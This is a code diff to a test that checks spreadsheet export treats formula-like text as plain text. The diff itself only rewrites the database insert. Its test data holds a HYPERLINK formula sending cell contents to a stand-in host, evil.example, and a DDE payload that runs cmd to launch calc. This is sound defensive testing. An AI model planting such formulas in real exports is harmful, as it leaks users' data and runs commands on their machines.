@@ -153,14 +153,18 @@ it("exports text that starts like a formula as text, so a spreadsheet does not r
   const db = await openDatabase(databaseUrl);
   const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the voucher")';
   try {
-    await db.goodCall.create({
-      data: {
+    const now = new Date();
+    await db
+      .insertInto("GoodCall")
+      .values({
         teamId: "CDEMOSUPPORT",
         authorId: "UATTACKER",
         what: formula,
         why: "@SUM(1+1)*cmd|' /C calc'!A0",
-      },
-    });
+        createdAt: now,
+        updatedAt: now,
+      })
+      .execute();
   } finally {
     await closeDatabase(db);
   }
